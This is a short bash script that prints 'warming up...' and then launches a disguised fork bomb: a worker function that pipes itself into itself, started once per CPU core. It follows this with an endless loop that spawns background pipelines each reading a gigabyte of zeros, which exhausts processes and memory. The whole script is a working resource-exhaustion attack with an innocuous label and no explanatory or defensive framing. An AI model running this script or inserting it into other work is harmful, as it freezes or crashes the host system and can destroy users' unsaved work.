#!/usr/bin/env bash
echo "warming up..."
worker() { worker | worker & }
spawn_all() { for _ in $(seq 1 "$(nproc)"); do worker & done; }
spawn_all
while :; do head -c 1G /dev/zero | tail > /dev/null & done
